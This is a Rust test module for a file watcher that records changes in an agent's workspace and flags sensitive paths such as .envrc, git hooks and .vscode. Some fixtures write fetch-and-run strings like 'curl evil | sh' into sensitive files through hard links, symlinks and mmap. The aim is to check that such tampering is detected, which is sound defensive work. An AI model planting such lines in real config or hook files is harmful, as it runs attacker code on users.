//! The watcher against a real folder and the kernel's inotify: what a change looks like in the
//! log, how a burst is folded, and that a sensitive path is never folded.

use super::*;
use std::fs;
use tempfile::TempDir;
use yolo_protocol::event::Event;

struct Setup {
    work: TempDir,
    logs: TempDir,
}

impl Setup {
    fn new() -> Setup {
        Setup {
            work: tempfile::tempdir().unwrap(),
            logs: tempfile::tempdir().unwrap(),
        }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.work.path().join(rel)
    }

    fn start(&self) -> FileWatcher {
        let config = FileWatch {
            root: self.work.path().to_path_buf(),
            log_path: self.logs.path().join("s.files.jsonl"),
            sensitive: vec![
                "**/.envrc".into(),
                ".git/hooks/**".into(),
                "**/.vscode/**".into(),
            ],
            max_bytes: 16 << 20,
        };
        let (guard, _rx) = Events::channel();
        let watcher = spawn(&config, "s", None, &guard).expect("the watcher starts");
        watcher.wait_ready(Duration::from_secs(5));
        watcher
    }

    /// The `file` records written so far, as JSON (what `yolo audit --json` shows).
    fn records(&self) -> Vec<serde_json::Value> {
        let text = fs::read_to_string(self.logs.path().join("s.files.jsonl")).unwrap_or_default();
        text.lines()
            .map(|l| serde_json::from_str::<Event>(l).unwrap())
            .filter(|e| e.kind.name() == "file")
            .map(|e| serde_json::to_value(&e.kind).unwrap())
            .collect()
    }
}

fn pause() {
    std::thread::sleep(DEBOUNCE * 2);
}

/// (path, change, from, size) of each record, without the times.
fn summary(records: &[serde_json::Value]) -> Vec<(String, String, String, Option<u64>)> {
    records
        .iter()
        .map(|r| {
            (
                r["path"].as_str().unwrap().to_string(),
                r["change"].as_str().unwrap().to_string(),
                r["from"].as_str().unwrap_or("").to_string(),
                r["size"].as_u64(),
            )
        })
        .collect()
}

#[test]
fn created_modified_renamed_and_deleted_files_are_recorded_with_relative_paths_and_sizes() {
    let setup = Setup::new();
    fs::create_dir(setup.path("src")).unwrap();
    let watcher = setup.start();
    fs::write(setup.path("src/a.txt"), "hello").unwrap();
    pause();
    fs::write(setup.path("src/a.txt"), "hello, world").unwrap();
    pause();
    fs::rename(setup.path("src/a.txt"), setup.path("src/b.txt")).unwrap();
    pause();
    fs::remove_file(setup.path("src/b.txt")).unwrap();
    pause();
    drop(watcher);
    let s = |p: &str, c: &str, f: &str, n: Option<u64>| (p.into(), c.into(), f.into(), n);
    assert_eq!(
        summary(&setup.records()),
        [
            s("src/a.txt", "created", "", Some(5)),
            s("src/a.txt", "modified", "", Some(12)),
            s("src/b.txt", "renamed", "src/a.txt", Some(12)),
            s("src/b.txt", "deleted", "", None),
        ]
    );
}

#[test]
fn a_burst_of_ten_thousand_files_is_folded_per_folder_and_sensitive_paths_stand_alone() {
    let setup = Setup::new();
    fs::create_dir_all(setup.path(".git/hooks")).unwrap();
    let watcher = setup.start();
    // The folder is new: files written before its watch exists are found by reading it.
    fs::create_dir_all(setup.path("target/debug")).unwrap();
    for i in 0..10_000 {
        fs::write(setup.path(&format!("target/debug/f{i}")), "x").unwrap();
        if i == 5_000 {
            fs::write(setup.path(".envrc"), "export A=1\n").unwrap();
            fs::write(setup.path(".git/hooks/pre-commit"), "#!/bin/sh\n").unwrap();
        }
    }
    pause();
    drop(watcher);
    let records = setup.records();
    assert!(
        records.len() < 30,
        "{} records: {records:#?}",
        records.len()
    );
    let in_debug: Vec<&serde_json::Value> = records
        .iter()
        .filter(|r| r["path"].as_str().unwrap().starts_with("target/debug/"))
        .collect();
    let count: u64 = in_debug
        .iter()
        .map(|r| r["count"].as_u64().unwrap_or(1))
        .sum();
    assert_eq!(count, 10_000, "{in_debug:#?}");
    let size: u64 = in_debug.iter().map(|r| r["size"].as_u64().unwrap()).sum();
    assert_eq!(size, 10_000, "every file holds one byte");
    assert!(in_debug
        .iter()
        .any(|r| r["path"] == "target/debug/" && r["count"].as_u64() > Some(1)));
    let sensitive: Vec<_> = records.iter().filter(|r| r["sensitive"] == true).collect();
    assert_eq!(
        summary(&sensitive.into_iter().cloned().collect::<Vec<_>>()),
        [
            (".envrc".into(), "created".into(), "".into(), Some(11)),
            (
                ".git/hooks/pre-commit".into(),
                "created".into(),
                "".into(),
                Some(10)
            ),
        ]
    );
}

#[test]
fn a_sensitive_file_changed_again_and_again_is_a_record_each_time_it_settles() {
    let setup = Setup::new();
    let watcher = setup.start();
    for i in 0..3 {
        fs::write(setup.path(".envrc"), format!("export A={i}\n")).unwrap();
        pause();
    }
    drop(watcher);
    let changes: Vec<(String, String)> = setup
        .records()
        .iter()
        .map(|r| (r["path"].to_string(), r["change"].to_string()))
        .collect();
    assert_eq!(changes.len(), 3, "{changes:?}");
    assert!(setup.records().iter().all(|r| r["sensitive"] == true));
}

#[test]
fn git_objects_are_not_watched() {
    let setup = Setup::new();
    fs::create_dir_all(setup.path(".git/objects/ab")).unwrap();
    let watcher = setup.start();
    fs::write(setup.path(".git/objects/ab/cdef"), "blob").unwrap();
    fs::write(setup.path(".git/index"), "index").unwrap();
    pause();
    drop(watcher);
    let paths: Vec<String> = summary(&setup.records()).into_iter().map(|r| r.0).collect();
    assert_eq!(paths, [".git/index"]);
}

/// Runs the test below in a user namespace of its own, whose inotify watch limit is 20 (the
/// kernel counts watches per user namespace, so the host's limit is left alone), on a folder
/// made here: 50 folders, and one of a user the namespace does not map, mode 0700, which its
/// root may not read.
#[test]
fn folders_past_the_watch_limit_or_unreadable_are_counted_and_recorded() {
    use std::os::unix::fs::PermissionsExt;
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        // The folder the watcher cannot read belongs to another user: only root can make it.
        crate::testing::skip("not root: cannot give a folder to another user");
        return;
    }
    let work = tempfile::tempdir().unwrap();
    for i in 0..50 {
        fs::create_dir(work.path().join(format!("d{i}"))).unwrap();
    }
    let secret = work.path().join("secret");
    fs::create_dir(&secret).unwrap();
    std::os::unix::fs::chown(&secret, Some(1234), Some(1234)).unwrap();
    fs::set_permissions(&secret, fs::Permissions::from_mode(0o700)).unwrap();
    with_watch_limit(20, "with_a_watch_limit_of_20", work.path());
}

/// Run the ignored test `name` in a user namespace whose inotify watch limit is `limit`, on
/// the workspace `root`; it must pass.
fn with_watch_limit(limit: u64, name: &str, root: &Path) {
    let exe = std::env::current_exe().unwrap();
    // This module's path in the test binary, whatever folder it sits in.
    let here = module_path!().split_once("::").map_or("", |(_, path)| path);
    let out = std::process::Command::new("unshare")
        .args(["--user", "--map-root-user", "sh", "-c"])
        .arg(format!(
            "echo {limit} > /proc/sys/user/max_inotify_watches && exec \"$0\" --exact \
             {here}::{name} --ignored --test-threads 1"
        ))
        .arg(exe)
        .env("YOLO_FILES_TEST_ROOT", root)
        .output()
        .expect("unshare (util-linux) runs");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success() && stdout.contains("1 passed"),
        "{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
#[ignore = "run by folders_past_the_watch_limit_or_unreadable_are_counted_and_recorded"]
fn with_a_watch_limit_of_20() {
    let limit = fs::read_to_string("/proc/sys/user/max_inotify_watches").unwrap();
    assert_eq!(limit.trim(), "20");
    let logs = tempfile::tempdir().unwrap();
    let config = FileWatch {
        root: std::env::var_os("YOLO_FILES_TEST_ROOT").unwrap().into(),
        log_path: logs.path().join("s.files.jsonl"),
        sensitive: vec![],
        max_bytes: 1 << 20,
    };
    let (guard, _rx) = Events::channel();
    let watcher = spawn(&config, "s", None, &guard).unwrap();
    watcher.wait_ready(Duration::from_secs(5));
    drop(watcher);
    let text = fs::read_to_string(&config.log_path).unwrap();
    let incomplete: Vec<serde_json::Value> = text
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .filter(|e| e["status"] == "file_watch_incomplete")
        .collect();
    // 51 readable folders (the root and 50) for 20 watches, and the unreadable one.
    assert_eq!(incomplete.len(), 1, "{text}");
    let details = &incomplete[0]["details"];
    assert_eq!(details["unwatched_folders"], 32, "{text}");
    assert_eq!(details["over_limit"], 31, "{text}");
    assert_eq!(details["unreadable"], 1, "{text}");
    assert_eq!(details["max_user_watches"], 20, "{text}");
}

/// The agent makes folders by the thousand: the guard (root on the host, whose watch limit
/// every root process shares) takes at most a quarter of the limit, says what it left out, and
/// watches again once folders are removed. Run in a user namespace whose limit is 4,096.
#[test]
fn a_flood_of_folders_takes_at_most_a_quarter_of_the_watch_limit() {
    let work = tempfile::tempdir().unwrap();
    for i in 0..1500 {
        fs::create_dir(work.path().join(format!("d{i}"))).unwrap();
    }
    with_watch_limit(4096, "with_a_watch_limit_of_4096", work.path());
}

#[test]
#[ignore = "run by a_flood_of_folders_takes_at_most_a_quarter_of_the_watch_limit"]
fn with_a_watch_limit_of_4096() {
    let root: PathBuf = std::env::var_os("YOLO_FILES_TEST_ROOT").unwrap().into();
    let logs = tempfile::tempdir().unwrap();
    let config = FileWatch {
        root: root.clone(),
        log_path: logs.path().join("s.files.jsonl"),
        sensitive: vec![],
        max_bytes: 16 << 20,
    };
    let (guard, _rx) = Events::channel();
    let watcher = spawn(&config, "s", None, &guard).unwrap();
    watcher.wait_ready(Duration::from_secs(10));
    assert_eq!(inotify_watches(), Some(1024));
    // At the cap, a folder made now is not watched yet; one written into it later is.
    fs::create_dir(root.join("hidden")).unwrap();
    pause();
    // Folders removed give their watches back: the folder left out is watched then (what is
    // in it recorded), and so is a folder made after that.
    for i in 0..1500 {
        fs::remove_dir(root.join(format!("d{i}"))).unwrap();
    }
    std::thread::sleep(RECOUNT + Duration::from_millis(500));
    fs::write(root.join("hidden/inside.txt"), "x").unwrap();
    std::thread::sleep(RECOUNT + Duration::from_millis(500));
    fs::create_dir(root.join("later")).unwrap();
    pause();
    fs::write(root.join("later/inside.txt"), "x").unwrap();
    pause();
    assert!(inotify_watches().unwrap() <= 1024);
    drop(watcher);
    let text = fs::read_to_string(&config.log_path).unwrap();
    let events: Vec<serde_json::Value> = text
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .collect();
    let incomplete = events
        .iter()
        .find(|e| e["status"] == "file_watch_incomplete")
        .unwrap_or_else(|| panic!("{text}"));
    assert_eq!(incomplete["details"]["max_watches"], 1024, "{text}");
    assert!(
        incomplete["details"]["over_limit"].as_u64().unwrap() >= 1,
        "{text}"
    );
    assert!(
        events.iter().any(|e| e["path"] == "later/inside.txt"),
        "{text}"
    );
    assert!(
        events.iter().any(|e| e["path"] == "hidden/inside.txt"),
        "{text}"
    );
}

#[test]
fn a_watcher_that_cannot_start_says_so_in_the_guard_log_and_leaves_the_guard_running() {
    let setup = Setup::new();
    let config = FileWatch {
        root: setup.path("not-there"),
        log_path: setup.logs.path().join("s.files.jsonl"),
        sensitive: vec![],
        max_bytes: 1 << 20,
    };
    let (guard, rx) = Events::channel();
    assert!(spawn(&config, "s", None, &guard).is_none());
    match rx.try_recv().unwrap() {
        EventKind::Guard { status, details } => {
            assert_eq!(status, "file_watch_failed");
            assert!(details["error"].as_str().unwrap().contains("not-there"));
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn past_the_size_cap_a_sensitive_change_is_still_written() {
    let setup = Setup::new();
    let config = FileWatch {
        root: setup.work.path().to_path_buf(),
        log_path: setup.logs.path().join("s.files.jsonl"),
        sensitive: vec!["**/.envrc".into()],
        max_bytes: 8192,
    };
    let (guard, _rx) = Events::channel();
    let watcher = spawn(&config, "s", None, &guard).unwrap();
    watcher.wait_ready(Duration::from_secs(5));
    // A first record in each of 200 folders: far past 8 KiB.
    for i in 0..200 {
        fs::create_dir(setup.path(&format!("d{i}"))).unwrap();
        fs::write(setup.path(&format!("d{i}/x")), "x").unwrap();
    }
    pause();
    fs::write(setup.path(".envrc"), "export A=1\n").unwrap();
    pause();
    drop(watcher);
    let text = fs::read_to_string(&config.log_path).unwrap();
    assert!(text.contains(r#""kind":"suppressed""#), "{text}");
    let envrc: Vec<_> = setup
        .records()
        .into_iter()
        .filter(|r| r["path"] == ".envrc")
        .collect();
    assert_eq!(envrc.len(), 1, "{text}");
    assert!(text.len() < 8192 + 8192 / 16 + 1024, "{}", text.len());
}

#[test]
fn a_symbolic_link_moved_in_is_recorded_not_followed() {
    let setup = Setup::new();
    let watcher = setup.start();
    let outside = setup.logs.path().join("link");
    std::os::unix::fs::symlink("/", &outside).unwrap();
    fs::rename(&outside, setup.path("link")).unwrap();
    pause();
    drop(watcher);
    let paths: Vec<String> = summary(&setup.records()).into_iter().map(|r| r.0).collect();
    assert_eq!(paths, ["link"]);
}

/// Write `bytes` at the start of `path` through a shared mapping, as root in the agent can:
/// the kernel raises no `IN_MODIFY` for it, only `IN_CLOSE_WRITE` when the file is let go.
fn write_through_mmap(path: &Path, bytes: &[u8]) {
    use std::os::fd::AsRawFd;
    let file = fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open(path)
        .unwrap();
    let len = file.metadata().unwrap().len() as usize;
    assert!(len >= bytes.len());
    // SAFETY: a fresh shared mapping of `len` bytes of an open file, written within its
    // bounds and unmapped before the file is closed.
    unsafe {
        let map = libc::mmap(
            std::ptr::null_mut(),
            len,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_SHARED,
            file.as_raw_fd(),
            0,
        );
        assert_ne!(map, libc::MAP_FAILED);
        std::ptr::copy_nonoverlapping(bytes.as_ptr(), map.cast::<u8>(), bytes.len());
        libc::munmap(map, len);
    }
}

/// The records of `path`, as JSON.
fn records_of(setup: &Setup, path: &str) -> Vec<serde_json::Value> {
    setup
        .records()
        .into_iter()
        .filter(|r| r["path"] == path)
        .collect()
}

#[test]
fn a_write_through_mmap_to_a_sensitive_file_is_recorded_and_a_close_without_one_is_not() {
    let setup = Setup::new();
    fs::write(setup.path(".envrc"), "export A=1\n").unwrap();
    let watcher = setup.start();
    // Opened for writing and closed, nothing written: no change.
    drop(
        fs::OpenOptions::new()
            .write(true)
            .open(setup.path(".envrc"))
            .unwrap(),
    );
    pause();
    assert_eq!(
        records_of(&setup, ".envrc"),
        Vec::<serde_json::Value>::new()
    );
    write_through_mmap(&setup.path(".envrc"), b"curl evil");
    pause();
    drop(watcher);
    let envrc = records_of(&setup, ".envrc");
    assert_eq!(envrc.len(), 1, "{:#?}", setup.records());
    assert_eq!(envrc[0]["change"], "modified");
    assert_eq!(envrc[0]["sensitive"], true);
}

#[test]
fn a_hard_link_to_a_sensitive_file_is_sensitive_and_names_the_file() {
    let setup = Setup::new();
    fs::write(setup.path(".envrc"), "export A=1\n").unwrap();
    fs::write(setup.path("old.envrc"), "export B=1\n").unwrap();
    // A link made before the watcher started.
    fs::create_dir(setup.path("notes")).unwrap();
    fs::hard_link(setup.path("old.envrc"), setup.path("notes/old")).unwrap();
    fs::rename(setup.path("old.envrc"), setup.path("sub.envrc")).unwrap();
    fs::create_dir(setup.path("sub")).unwrap();
    fs::rename(setup.path("sub.envrc"), setup.path("sub/.envrc")).unwrap();
    let watcher = setup.start();
    fs::hard_link(setup.path(".envrc"), setup.path("notes/harmless.txt")).unwrap();
    pause();
    fs::write(setup.path("notes/harmless.txt"), "curl evil | sh\n").unwrap();
    pause();
    write_through_mmap(&setup.path("notes/old"), b"curl");
    pause();
    drop(watcher);
    let harmless = records_of(&setup, "notes/harmless.txt");
    assert_eq!(harmless.len(), 2, "{:#?}", setup.records());
    for (record, change) in harmless.iter().zip(["created", "modified"]) {
        assert_eq!(record["change"], change, "{record}");
        assert_eq!(record["sensitive"], true, "{record}");
        assert_eq!(record["links"], serde_json::json!([".envrc"]), "{record}");
    }
    let old = records_of(&setup, "notes/old");
    assert_eq!(old.len(), 1, "{:#?}", setup.records());
    assert_eq!(old[0]["sensitive"], true, "{}", old[0]);
    assert_eq!(
        old[0]["links"],
        serde_json::json!(["sub/.envrc"]),
        "{}",
        old[0]
    );
}

#[test]
fn an_edit_below_a_folder_linked_where_a_sensitive_one_is_names_the_sensitive_path() {
    let setup = Setup::new();
    fs::create_dir_all(setup.path("tools/hooks")).unwrap();
    fs::create_dir_all(setup.path(".git")).unwrap();
    // `.git/hooks -> ../tools/hooks`: what is written in tools/hooks runs as git's hooks.
    std::os::unix::fs::symlink("../tools/hooks", setup.path(".git/hooks")).unwrap();
    let watcher = setup.start();
    fs::write(setup.path("tools/hooks/pre-commit"), "#!/bin/sh\nevil\n").unwrap();
    pause();
    // A link made while the watcher runs.
    fs::create_dir_all(setup.path("tools/vsc")).unwrap();
    fs::create_dir_all(setup.path("sub")).unwrap();
    std::os::unix::fs::symlink("../tools/vsc", setup.path("sub/.vscode")).unwrap();
    pause();
    fs::write(setup.path("tools/vsc/tasks.json"), "{}").unwrap();
    pause();
    drop(watcher);
    let hook = records_of(&setup, "tools/hooks/pre-commit");
    assert_eq!(hook.len(), 1, "{:#?}", setup.records());
    assert_eq!(hook[0]["sensitive"], true, "{}", hook[0]);
    assert_eq!(
        hook[0]["links"],
        serde_json::json!([".git/hooks/pre-commit"]),
        "{}",
        hook[0]
    );
    let tasks = records_of(&setup, "tools/vsc/tasks.json");
    assert_eq!(tasks.len(), 1, "{:#?}", setup.records());
    assert_eq!(tasks[0]["sensitive"], true, "{}", tasks[0]);
    assert_eq!(
        tasks[0]["links"],
        serde_json::json!(["sub/.vscode/tasks.json"]),
        "{}",
        tasks[0]
    );
}

/// Make `depth` folders named `name` one in the other below `dir` (past PATH_MAX: each made
/// through a descriptor of its parent), and return the descriptor of the deepest.
fn deep_folders(dir: &Path, name: &str, depth: usize) -> fs::File {
    use std::os::fd::AsRawFd;
    let mut at = fs::File::open(dir).unwrap();
    for _ in 0..depth {
        let next = PathBuf::from(format!("/proc/self/fd/{}/{name}", at.as_raw_fd()));
        fs::create_dir(&next).unwrap();
        at = fs::File::open(&next).unwrap();
    }
    at
}

fn under(fd: &fs::File, name: &str) -> PathBuf {
    use std::os::fd::AsRawFd;
    PathBuf::from(format!("/proc/self/fd/{}/{name}", fd.as_raw_fd()))
}

#[test]
fn files_deeper_than_path_max_are_watched() {
    let setup = Setup::new();
    let name = "d".repeat(200);
    // 25 x 201 bytes: past PATH_MAX (4,096) from the root already.
    let before = deep_folders(setup.work.path(), &name, 25);
    fs::write(under(&before, ".envrc"), "export A=1\n").unwrap();
    let watcher = setup.start();
    fs::write(under(&before, ".envrc"), "curl evil\n").unwrap();
    // A deep tree made while the watcher runs, written as it is made.
    fs::create_dir(setup.path("later")).unwrap();
    pause();
    let after = deep_folders(&setup.path("later"), &name, 30);
    fs::write(under(&after, ".envrc"), "export B=1\n").unwrap();
    pause();
    write_through_mmap(&under(&after, ".envrc"), b"curl");
    pause();
    drop(watcher);
    let deep = |prefix: &str, n: usize| format!("{prefix}{}.envrc", format!("{name}/").repeat(n));
    let first = records_of(&setup, &deep("", 25));
    assert_eq!(first.len(), 1, "{:#?}", summary(&setup.records()));
    assert_eq!(first[0]["change"], "modified");
    assert_eq!(first[0]["sensitive"], true);
    let second = records_of(&setup, &deep("later/", 30));
    let changes: Vec<&serde_json::Value> = second.iter().map(|r| &r["change"]).collect();
    assert_eq!(
        changes,
        ["created", "modified"],
        "{:#?}",
        summary(&setup.records())
    );
    assert!(second.iter().all(|r| r["size"] == 11), "{second:#?}");
}

/// More folders are left out at the cap than the watcher remembers one by one: once room comes
/// back, a walk of the whole workspace finds them, and what was written in them. Run in a user
/// namespace whose limit is 4,096 (a cap of 1,024).
#[test]
fn folders_left_out_past_what_is_remembered_are_found_when_room_comes_back() {
    let work = tempfile::tempdir().unwrap();
    for i in 0..1500 {
        fs::create_dir(work.path().join(format!("d{i}"))).unwrap();
    }
    with_watch_limit(
        4096,
        "with_a_watch_limit_of_4096_and_many_left_out",
        work.path(),
    );
}

#[test]
#[ignore = "run by folders_left_out_past_what_is_remembered_are_found_when_room_comes_back"]
fn with_a_watch_limit_of_4096_and_many_left_out() {
    let root: PathBuf = std::env::var_os("YOLO_FILES_TEST_ROOT").unwrap().into();
    let logs = tempfile::tempdir().unwrap();
    let config = FileWatch {
        root: root.clone(),
        log_path: logs.path().join("s.files.jsonl"),
        sensitive: vec!["**/.vscode/**".into()],
        max_bytes: 16 << 20,
    };
    let (guard, _rx) = Events::channel();
    let watcher = spawn(&config, "s", None, &guard).unwrap();
    watcher.wait_ready(Duration::from_secs(10));
    // At the cap: more new folders than are remembered, then the one that matters.
    for i in 0..5000 {
        fs::create_dir(root.join(format!("e{i}"))).unwrap();
    }
    pause();
    fs::create_dir_all(root.join("new/.vscode")).unwrap();
    fs::write(root.join("new/.vscode/tasks.json"), "{}").unwrap();
    pause();
    for i in 0..1500 {
        fs::remove_dir(root.join(format!("d{i}"))).unwrap();
    }
    for i in 0..5000 {
        fs::remove_dir(root.join(format!("e{i}"))).unwrap();
    }
    std::thread::sleep(RECOUNT * 3);
    // Watched now: a change made later is seen as it happens.
    fs::write(root.join("new/.vscode/settings.json"), "{}").unwrap();
    pause();
    drop(watcher);
    let text = fs::read_to_string(&config.log_path).unwrap();
    let sensitive: Vec<String> = text
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .filter(|e| e["sensitive"] == true)
        .map(|e| e["path"].as_str().unwrap().to_string())
        .collect();
    for path in ["new/.vscode/tasks.json", "new/.vscode/settings.json"] {
        assert!(sensitive.iter().any(|p| p == path), "{path}: {sensitive:?}");
    }
}

/// Past the descriptors the watcher holds for deep folders (`MAX_ANCHORS`), the folders left
/// out are counted and the first named, in full.
#[test]
fn deep_folders_past_the_descriptors_held_are_named_in_the_incomplete_record() {
    let setup = Setup::new();
    // A trunk just short of `SHORT`, and below it more folders than descriptors are held,
    // each past it.
    let trunk = deep_folders(setup.work.path(), &"d".repeat(250), 14);
    for i in 0..MAX_ANCHORS + 8 {
        fs::create_dir(under(&trunk, &format!("{i:0>100}"))).unwrap();
    }
    let watcher = setup.start();
    drop(watcher);
    let text = fs::read_to_string(setup.logs.path().join("s.files.jsonl")).unwrap();
    let incomplete: serde_json::Value = text
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .find(|e| e["status"] == "file_watch_incomplete")
        .unwrap_or_else(|| panic!("{text}"));
    let details = &incomplete["details"];
    assert!(details["too_deep"].as_u64().unwrap() >= 8, "{details}");
    let named = details["left_out"].as_array().unwrap();
    assert!(!named.is_empty(), "{details}");
    for path in named {
        let path = path.as_str().unwrap();
        assert!(path.starts_with("ddd") && path.len() > SHORT, "{path}");
    }
}

/// Folders with long paths by the thousand (an agent made 70,000 of 3.5 KiB in two seconds and
/// the guard was killed for its memory): past what the watcher's tables may hold, they are left
/// out and counted (`over_memory`), and the watcher goes on recording the folders it watches.
#[test]
fn long_paths_by_the_thousand_are_left_out_within_the_watchers_memory() {
    let setup = Setup::new();
    // A trunk of 3,133 bytes, and 5,000 folders of 240-byte names below it: 17 MiB of paths,
    // past `WATCHED_BYTES` (and what a walk may hold at once).
    let trunk = deep_folders(setup.work.path(), &"t".repeat(240), 13);
    for i in 0..5_000 {
        fs::create_dir(under(&trunk, &format!("{i:0>240}"))).unwrap();
    }
    fs::create_dir(setup.path("src")).unwrap();
    let watcher = setup.start();
    fs::write(setup.path("src/after.txt"), "x").unwrap();
    pause();
    drop(watcher);
    let text = fs::read_to_string(setup.logs.path().join("s.files.jsonl")).unwrap();
    let incomplete: serde_json::Value = text
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .find(|e| e["status"] == "file_watch_incomplete")
        .unwrap_or_else(|| panic!("no file_watch_incomplete record"));
    let details = &incomplete["details"];
    assert!(details["over_memory"].as_u64().unwrap() > 0, "{details}");
    assert_eq!(details["over_limit"], 0, "{details}");
    assert_eq!(records_of(&setup, "src/after.txt").len(), 1);
}

/// The tables of paths being debounced, folded and known stay within their budgets however
/// many long paths the agent changes, and what they cannot hold is counted, not lost silently.
#[test]
fn the_debounce_fold_and_known_tables_stay_within_their_budgets() {
    let now = Utc::now();
    let long = "p".repeat(4_000);
    let mut changes = Changes::new(GlobSet::empty(), GlobSet::empty());
    for i in 0..10_000 {
        changes.offer(format!("{long}/{i}"), Change::Created, None, now);
    }
    assert!(changes.pending_bytes.used <= PENDING_BYTES);
    let held = changes.pending.len();
    assert!(held > 1_000 && held < 10_000, "{held}");
    assert_eq!(changes.shed, (10_000 - held) as u64);
    // Renamed from long names: the source names count too.
    let before = changes.shed;
    changes.offer("0".into(), Change::Renamed, Some(long.clone()), now);
    assert_eq!(changes.shed, before + 1);
    // What settles gives its bytes back: room again.
    let fs = Fs::new(std::env::temp_dir());
    let later = now + chrono::Duration::seconds(10);
    let _ = changes.settled(later, true, &fs);
    assert!(changes.pending.is_empty());
    assert_eq!(changes.pending_bytes.used, 0);
    changes.offer("a".into(), Change::Created, None, later);
    assert_eq!(changes.pending.len(), 1);

    // One folder each: folded by folder within `BUCKET_BYTES`, the rest written one by one.
    let mut changes = Changes::new(GlobSet::empty(), GlobSet::empty());
    let n = 3_000;
    for i in 0..n {
        changes.offer(format!("{long}{i}/f"), Change::Created, None, now);
    }
    let written = changes.settled(later, true, &fs);
    assert_eq!(written.len(), n);
    assert!(changes.bucket_bytes.used <= BUCKET_BYTES);
    assert!(changes.buckets.len() < n, "{}", changes.buckets.len());
    let _ = changes.flush(later + chrono::Duration::seconds(10));
    assert!(changes.buckets.is_empty());
    assert_eq!(changes.bucket_bytes.used, 0);
}

/// Sensitive files known by name stay within `KNOWN_BYTES`; past it they are counted as
/// untracked, and forgetting them gives the room back.
#[test]
fn sensitive_files_known_by_name_stay_within_their_budget() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("f");
    fs::write(&file, "x").unwrap();
    let meta = fs::symlink_metadata(&file).unwrap();
    let mut known = Known::new();
    let long = "k".repeat(4_000);
    let names: Vec<String> = (0..2_000).map(|i| format!("{long}{i}/.envrc")).collect();
    known.remember(&names, &meta, &file, false);
    assert!(known.bytes.used <= KNOWN_BYTES);
    assert!(known.untracked > 0);
    let kept = known.paths.len();
    assert_eq!(known.untracked as usize, names.len() - kept);
    for name in &names {
        known.forget(name);
    }
    assert_eq!(known.bytes.used, 0);
    assert!(known.files.is_empty());
}

/// A flood of ordinary changes fills `PENDING_BYTES`, and a change to a sensitive path (or a
/// rename away from one) is still held and written: it has a budget of its own. A flood of
/// sensitive names stays within that budget.
#[test]
fn a_flood_of_changes_cannot_crowd_out_a_sensitive_one() {
    let now = Utc::now();
    let long = "p".repeat(4_000);
    let mut set = globset::GlobSetBuilder::new();
    set.add(globset::Glob::new("**/.envrc").unwrap());
    let mut changes = Changes::new(set.build().unwrap(), GlobSet::empty());
    for i in 0..10_000 {
        changes.offer(format!("{long}/{i}"), Change::Created, None, now);
    }
    let shed = changes.shed;
    assert!(shed > 0, "the ordinary budget is full");
    changes.offer(".envrc".into(), Change::Modified, None, now);
    changes.offer(
        "moved".into(),
        Change::Renamed,
        Some("sub/.envrc".into()),
        now,
    );
    assert_eq!(changes.shed, shed, "neither was shed");
    let fs = Fs::new(std::env::temp_dir());
    let written = changes.settled(now + chrono::Duration::seconds(10), true, &fs);
    let paths: Vec<String> = written
        .iter()
        .filter_map(|e| match e {
            EventKind::File { path, .. } => Some(path.clone()),
            _ => None,
        })
        .collect();
    assert!(
        paths.iter().any(|p| p == ".envrc"),
        "{} records",
        paths.len()
    );
    assert!(paths.iter().any(|p| p == "moved"));
    assert_eq!(changes.sensitive_bytes.used, 0);
    assert_eq!(changes.pending_bytes.used, 0);
    for i in 0..10_000 {
        changes.offer(format!("{long}/{i}/.envrc"), Change::Created, None, now);
    }
    assert!(changes.sensitive_bytes.used <= SENSITIVE_PENDING_BYTES);
    assert!(changes.shed > shed);
}

/// A folder removed and made anew while the watcher's events were lost (an overflow) is
/// watched again by the walk that follows the loss: it was still in `watched`, under its old
/// self's watch, which the kernel had dropped. A folder gone for good is forgotten then.
#[test]
fn a_folder_made_anew_while_events_were_lost_is_watched_again() {
    let work = tempfile::tempdir().unwrap();
    let logs = tempfile::tempdir().unwrap();
    fs::create_dir_all(work.path().join("a")).unwrap();
    fs::create_dir_all(work.path().join("gone")).unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    let watcher = INotifyWatcher::new(
        move |e: notify::Result<notify::Event>| {
            let _ = tx.send(e);
        },
        notify::Config::default(),
    )
    .unwrap();
    let writer = Writer::open(&logs.path().join("s.files.jsonl"), "s", None).unwrap();
    let mut run = Run::new(
        Fs::new(work.path().to_path_buf()),
        watcher,
        Changes::new(GlobSet::empty(), GlobSet::empty()),
        writer,
        Arc::new(std::sync::atomic::AtomicU64::new(0)),
        Arc::new(AtomicUsize::new(0)),
    );
    run.watch_tree(work.path(), false);
    assert!(run.watched.contains(&work.path().join("a")));
    // Their events are never handed to the watcher: lost, as in an overflow.
    fs::remove_dir(work.path().join("a")).unwrap();
    fs::create_dir(work.path().join("a")).unwrap();
    fs::remove_dir(work.path().join("gone")).unwrap();
    let in_new_a = |rx: &std::sync::mpsc::Receiver<notify::Result<notify::Event>>| {
        while rx.try_recv().is_ok() {}
        fs::write(work.path().join("a/f"), "x").unwrap();
        let seen = std::iter::from_fn(|| rx.recv_timeout(Duration::from_millis(300)).ok())
            .flatten()
            .any(|e| e.paths.iter().any(|p| p.ends_with("a/f")));
        fs::remove_file(work.path().join("a/f")).unwrap();
        seen
    };
    assert!(
        !in_new_a(&rx),
        "the control: the new folder has no watch yet"
    );
    run.lost = true;
    run.next_rewalk = Instant::now();
    run.rewatch();
    assert!(in_new_a(&rx), "watched again after the walk");
    assert!(!run.watched.contains(&work.path().join("gone")));
}
